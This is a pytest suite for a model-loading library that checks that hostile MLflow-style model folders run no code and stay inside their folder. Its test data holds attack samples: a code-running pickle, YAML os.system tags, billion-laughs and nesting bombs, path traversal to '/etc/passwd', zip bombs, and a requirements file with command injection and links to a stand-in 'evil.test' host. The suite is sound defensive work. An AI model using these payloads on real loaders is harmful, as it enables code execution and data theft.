"""Models made to do harm: none of their code runs, and nothing is written anywhere."""

from __future__ import annotations

import os
import pickle
import random
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from fitscribe.errors import FitscribeError, MisuseError, NotFoundError, UntrustedModel
from fitscribe.models import archives, inside, pyfunc, trust, yamls
from fitscribe.models.format import MLMODEL, mlmodel_text, read_mlmodel, write_files
from fitscribe.models.sklearn import load_model

posix = pytest.mark.skipif(os.name == "nt", reason="such files need rights there, or are none")


class Evil:
    """Whoever unpickles this runs code."""

    def __reduce__(self):
        return exec, ("import pathlib; pathlib.Path('canary').touch()",)


TOUCH = "import pathlib\npathlib.Path('canary').touch()\n"
EVIL = pickle.dumps(Evil())


def tree(folder: Path) -> set[str]:
    return {each.relative_to(folder).as_posix() for each in folder.rglob("*")}


@pytest.fixture(autouse=True)
def nothing_ran(tmp_path) -> Iterator[None]:
    """No canary was made, and outside of the model's folder nothing changed."""
    yield
    assert {name for name in tree(tmp_path) if not name.startswith("model")} <= {"secret", "elsewhere", "elsewhere/f"}
    assert "canary" not in sys.modules


def folder(tmp_path: Path, flavors: object, files: dict[str, str | bytes] | None = None) -> Path:
    place = tmp_path / "model"
    for name, content in {MLMODEL: mlmodel_text({"flavors": flavors}), **(files or {})}.items():
        file = place / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content.encode() if isinstance(content, str) else content)
    return place


def test_the_canary_sings_where_it_may(tmp_path):
    place = folder(tmp_path, {"sklearn": {"pickled_model": "model.pkl"}}, {"model.pkl": EVIL})
    load_model(place, trust=True)
    (tmp_path / "canary").unlink()


SKLEARN = {"pickled_model": "model.pkl", "serialization_format": "pickle"}
ANSWERS = {"loader_module": "mlflow.sklearn", "model_path": "model.pkl"}


@pytest.mark.parametrize(
    "flavors",
    [
        {"sklearn": SKLEARN, "python_function": ANSWERS},
        {"sklearn": {"pickled_model": "model.pkl"}, "python_function": {**ANSWERS, "serialization_format": "skops"}},
        {"python_function": {**ANSWERS, "serialization_format": "pickle"}},
        {"python_function": ANSWERS},
        {"sklearn": {**SKLEARN, "serialization_format": "SKOPS"}, "python_function": ANSWERS},
        {"sklearn": {**SKLEARN, "serialization_format": None}, "python_function": ANSWERS},
        {"sklearn": {**SKLEARN, "serialization_format": ["skops"]}, "python_function": ANSWERS},
        {"python_function": {"loader_module": "mlflow.pyfunc.model", "python_model": "model.pkl"}},
        {"python_function": {"loader_module": "mlflow.pyfunc.model", "python_model": "model.pkl", "data": "MLmodel"}},
        {"python_function": {"loader_module": "mlflow.pyfunc.model", "model_code_path": "script.py"}},
        {"python_function": {"loader_module": "mlflow.pyfunc.loaders.code_model", "model_code_path": "script.py"}},
        {"python_function": {"loader_module": "canary", "code": "code"}},
        {"python_function": {"loader_module": "canary", "code": "code/"}, "sklearn": {}},
        {"python_function": {**ANSWERS, "code": "code"}, "sklearn": {"serialization_format": "skops"}},
        {"python_function": {"loader_module": "this"}},
        {"python_function": {"loader_module": "pickle", "data": "model.pkl"}},
        {"python_function": {}},
    ],
)
def test_unsigned_model_that_would_run_code_runs_none(tmp_path, flavors):
    files = {"model.pkl": EVIL, "script.py": TOUCH, "code/canary.py": TOUCH, "code/numpy.py": TOUCH}
    place = folder(tmp_path, flavors, files)
    for load in (pyfunc.load, load_model):
        with pytest.raises(FitscribeError) as raised:
            load(place)
        assert "trust=True" in str(raised.value) or not isinstance(raised.value, UntrustedModel)
    assert "this" not in sys.modules


@pytest.mark.parametrize(
    "name", ["../secret", "/etc/passwd", "a/../../secret", "..", "", None, 3, ["a"], "x\0", "link"]
)
@pytest.mark.parametrize("trusted", [None, True])
def test_names_that_lead_out_of_the_folder(tmp_path, name, trusted):
    (tmp_path / "secret").write_bytes(EVIL)
    place = folder(tmp_path, {}, {"model.pkl": EVIL})
    if os.name != "nt":
        (place / "link").symlink_to(tmp_path / "secret")
    for flavors in (
        {"sklearn": {"pickled_model": name}},
        {"python_function": {"loader_module": "mlflow.pyfunc.model", "python_model": name}},
    ):
        write_files(place, {MLMODEL: mlmodel_text({"flavors": flavors})})
        for load in (pyfunc.load, load_model):
            with pytest.raises(MisuseError):
                load(place, trust=trusted)


@pytest.mark.parametrize("name", ["..", "/", "../elsewhere", "link"])
def test_code_that_lies_elsewhere(tmp_path, name):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "f").touch()
    place = folder(tmp_path, {"python_function": {"loader_module": "f", "code": name}})
    if os.name != "nt":
        (place / "link").symlink_to(tmp_path / "elsewhere")
    before = list(sys.path)
    with pytest.raises(MisuseError):
        pyfunc.load(place, trust=True)
    assert sys.path == before


@pytest.mark.parametrize("name", ["C:\\x", "C:x", "\\\\server\\share", "a\\..\\..\\x", "model.pkl:stream"])
def test_drives_and_backslashes_on_windows(tmp_path, name):
    with pytest.raises(MisuseError, match="no such file is in there"):
        inside.inside(tmp_path, name, windows=True)


BOMBS = {
    "types of Python": "flavors: !!python/object/apply:os.system ['touch canary']",
    "an object": "flavors: !!python/object/new:os.system ['touch canary']",
    "a name": "flavors: !!python/name:os.system",
    "a tag of its own": "flavors: !evil {}",
    "lists in lists": "flavors: " + "[" * 100_000,
    "dashes": "- " * 100_000,
    "questions": "? " * 100_000,
    "mappings in mappings": "{a: " * 100_000,
    "laughs": "\n".join(["a0: &a0 [x, x]", *(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 20))]),
    "merges": "\n".join(["a0: &a0 {x: 1}", *(f"a{i}: &a{i}\n  <<: [*a{i - 1}, *a{i - 1}]" for i in range(1, 40))]),
    "merges by tag": "a: &a {x: 1}\nb:\n  !!merge 'k': [*a, *a]",
    "a circle": "flavors: &a {sklearn: *a}",
    "a circle of lists": "flavors: &a [*a]",
    "a date": "flavors: 2026-99-99",
    "a number": "flavors: " + "1" * 5000,
    "a stamp": "flavors: !!timestamp x",
    "no number": "flavors: !!int x",
    "no UTF-8": b"flavors: \xff",
    "a zero": "flavors: \0",
    "nothing": "",
    "a list": "[]",
    "flavors that are a list": "flavors: [sklearn]",
    "a flavor that is text": "flavors: {sklearn: model.pkl}",
    "a flavor that is nothing": "flavors: {sklearn: }",
    "values without end": "flavors: [" + "1," * 90_000 + "1]",
    "no end": "a: " + "x" * (yamls.LARGEST + 1),
}


@pytest.mark.parametrize("what", BOMBS)
def test_mlmodel_that_is_a_trap(tmp_path, what):
    text = BOMBS[what]
    place = folder(tmp_path, {}, {MLMODEL: text})
    for load in (read_mlmodel, load_model, pyfunc.load):
        with pytest.raises(MisuseError):
            load(place)


def test_flavors_whose_keys_are_no_text(tmp_path):
    text = "flavors: {sklearn: {pickled_model: model.pkl, !!binary aGk=: 1, 2: 2, 2026-01-01: 3, null: 4, .nan: .inf}}"
    place = folder(tmp_path, {}, {MLMODEL: text, "model.pkl": pickle.dumps(1)})
    with pytest.raises(UntrustedModel):
        load_model(place)
    signed = trust.sign(place, read_mlmodel(place), ["model.pkl"])
    assert trust.unsigned_because(place, signed) == ""


@posix
@pytest.mark.parametrize("kind", ["pipe", "folder", "link to itself", "link to nowhere", "device"])
def test_mlmodel_that_is_no_file(tmp_path, kind):
    place = tmp_path / "model"
    place.mkdir()
    file = place / MLMODEL
    if kind == "pipe":
        os.mkfifo(file)
    elif kind == "folder":
        file.mkdir()
    else:
        file.symlink_to({"link to itself": file, "link to nowhere": place / "no"}.get(kind, Path("/dev/zero")))
    for load in (load_model, pyfunc.load, lambda folder: load_model(folder, trust=True)):
        with pytest.raises((MisuseError, NotFoundError)):
            load(place)


@posix
@pytest.mark.parametrize("kind", ["pipe", "folder", "device"])
def test_model_file_that_never_ends(tmp_path, kind):
    place = folder(tmp_path, {"sklearn": SKLEARN})
    file = place / "model.pkl"
    if kind == "pipe":
        os.mkfifo(file)
    elif kind == "folder":
        file.symlink_to(place)
    else:
        file.symlink_to("/dev/zero")
    for said in (None, True, "sha256:0"):
        with pytest.raises(MisuseError):
            load_model(place, trust=said)


@posix
def test_links_below_the_folder(tmp_path):
    place = folder(tmp_path, {}, {"data/a": "1"})
    (place / "b").symlink_to(place / "data" / "a")
    assert inside.listing(place).keys() == {MLMODEL, "data/a", "b"}
    for target in (place / "data", tmp_path, place, Path("/etc/passwd"), place / "nowhere"):
        (place / "c").symlink_to(target)
        with pytest.raises(MisuseError, match="holds 'c', a link to a folder or out of the model's own"):
            inside.listing(place)
        (place / "c").unlink()


def test_no_end_of_files(tmp_path, monkeypatch):
    place = folder(tmp_path, {"sklearn": SKLEARN}, {f"f{number}": "" for number in range(20)})
    monkeypatch.setattr(inside, "MOST", 10)
    with pytest.raises(MisuseError, match="has more than 10 files"):
        load_model(place)


def test_folders_in_folders_without_end(tmp_path):
    place = folder(tmp_path, {"sklearn": SKLEARN})
    place.joinpath(*["d"] * 70).mkdir(parents=True)
    with pytest.raises(MisuseError, match="or 64 levels"):
        load_model(place)


@posix
def test_hard_link_in_place_of_a_signed_file(tmp_path):
    (tmp_path / "secret").write_bytes(EVIL)
    place = folder(tmp_path, {"sklearn": SKLEARN}, {"model.pkl": pickle.dumps(1)})
    signed = trust.sign(place, read_mlmodel(place), ["model.pkl"])
    write_files(place, {MLMODEL: mlmodel_text(signed)})
    assert load_model(place) == 1
    (place / "model.pkl").unlink()
    os.link(tmp_path / "secret", place / "model.pkl")
    with pytest.raises(UntrustedModel, match=r"model\.pkl was edited"):
        load_model(place)
    assert (tmp_path / "secret").read_bytes() == EVIL


def test_environment_is_never_acted_upon(tmp_path):
    hostile = "-e git+https://evil.test/x#egg=x\n; touch canary\n--index-url https://evil.test\n$(touch canary)"
    conda = "dependencies: [{pip: ['; touch canary']}, !!python/object/apply:os.system ['touch canary']]"
    files = {"model.pkl": pickle.dumps(1), "requirements.txt": hostile, "conda.yaml": conda, "python_env.yaml": conda}
    env = {"conda": "conda.yaml", "virtualenv": "python_env.yaml"}
    flavors = {"sklearn": SKLEARN, "python_function": {**ANSWERS, "env": env}}
    place = folder(tmp_path, flavors, files)
    assert load_model(place, trust=True) == 1
    signed = trust.sign(place, read_mlmodel(place), ["model.pkl"])
    write_files(place, {MLMODEL: mlmodel_text(signed)})
    assert load_model(place) == 1
    assert pyfunc.load(place).get_raw_model() == 1


NAMES = ["model.pkl", "data", "data/model.pkl", "./model.pkl", "script.py", "code", ".", "", None, ["data"], 0, True]
WORDS = {
    "pickled_model": NAMES,
    "model_path": NAMES,
    "data": NAMES,
    "python_model": NAMES,
    "model_code_path": NAMES,
    "code": ["code", "code/", ".", "..", "script.py", ["code"], None],
    "serialization_format": ["skops", "SKOPS", "pickle", "cloudpickle", "", None, ["skops"], True],
    "loader_module": ["mlflow.sklearn", "mlflow.pyfunc.model", "canary", "mlflow.pyfunc.loaders.code_model", None, 3],
    "artifacts": [{"a": {"path": "model.pkl"}}, {"a": None}, [], None],
    "config": [{"device": "cpu"}, "script.py", None],
    "predict_fn": ["predict", "__reduce__", None],
}


@pytest.mark.parametrize("seed", range(5))
def test_no_words_of_a_mlmodel_make_an_unsigned_pickle_run(tmp_path, seed):
    files = {"model.pkl": EVIL, "data/model.pkl": EVIL, "script.py": TOUCH, "code/canary.py": TOUCH}
    place, chance = folder(tmp_path, {}, files), random.Random(seed)
    for _ in range(60):
        flavors = {
            name: {word: chance.choice(WORDS[word]) for word in chance.sample(list(WORDS), chance.randint(0, 6))}
            for name in chance.sample(["sklearn", "python_function"], chance.randint(1, 2))
        }
        write_files(place, {MLMODEL: mlmodel_text({"flavors": flavors})})
        for load in (pyfunc.load, load_model):
            with pytest.raises(FitscribeError):
                load(place)
            assert not (tmp_path / "canary").exists(), flavors


def archive(file: Path, entries: dict[str, bytes]) -> Path:
    file.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in entries.items():
            made.writestr(name, content)
    return file


def test_archive_that_unpacks_into_far_too_much(tmp_path, monkeypatch):
    monkeypatch.setattr(archives, "ALWAYS", 1_000_000)
    bomb = archive(tmp_path / "model" / "model.skops", {"schema.json": bytes(20_000_000)})
    with pytest.raises(MisuseError, match=r"would unpack into 20,000,000 in 1 entries, more than the 1,\d{3},\d{3}"):
        archives.check(bomb)
    place = folder(tmp_path, {"sklearn": {"pickled_model": "model.skops", "serialization_format": "skops"}})
    for load in (load_model, pyfunc.load):
        with pytest.raises(MisuseError):
            load(place)


@pytest.mark.parametrize("name", ["../evil", "/evil", "a/../../evil", "..\\evil", "\\\\server\\evil"])
def test_archive_whose_entries_lead_elsewhere(tmp_path, name):
    with pytest.raises(MisuseError, match="which would leave its folder"):
        archives.check(archive(tmp_path / "model" / "x.keras", {"config.json": b"{}", name: b""}))


def test_archives_of_honest_models_pass(tmp_path):
    archives.check(archive(tmp_path / "model" / "m.skops", {"schema.json": bytes(50_000_000)}))  # all of it zeros
    archives.check(archive(tmp_path / "model" / "m.pt", {"a..b/data.pkl": os.urandom(1000)}))
    (tmp_path / "model" / "legacy.pt").write_bytes(EVIL)
    archives.check(tmp_path / "model" / "legacy.pt")


@pytest.mark.parametrize("cut", [10, 100, -30, -1])
def test_archive_that_is_damaged(tmp_path, cut):
    file = archive(tmp_path / "model" / "m.skops", {"schema.json": os.urandom(200)})
    file.write_bytes(file.read_bytes()[:cut])
    place = folder(tmp_path, {"sklearn": {"pickled_model": "m.skops", "serialization_format": "skops"}})
    with pytest.raises((FitscribeError, zipfile.BadZipFile)):
        load_model(place)


def test_process_that_would_end_reading_mlmodel_goes_on(tmp_path):
    place = folder(tmp_path, {}, {MLMODEL: "[" * 100_000})
    script = "import pathlib, sys, fitscribe.models.format as f; f.read_mlmodel(pathlib.Path(sys.argv[1]))"
    done = subprocess.run([sys.executable, "-c", script, str(place)], capture_output=True, text=True, check=False)
    assert done.returncode == 1  # an error, no crash
    assert "is nested more than 100 deep" in done.stderr


def test_folder_that_is_swept_away_meanwhile(tmp_path):
    place = folder(tmp_path, {"sklearn": SKLEARN}, {"model.pkl": EVIL})
    content = read_mlmodel(place)
    shutil.rmtree(place)
    with pytest.raises((FitscribeError, FileNotFoundError)):
        trust.check(place, content, ["model.pkl"])
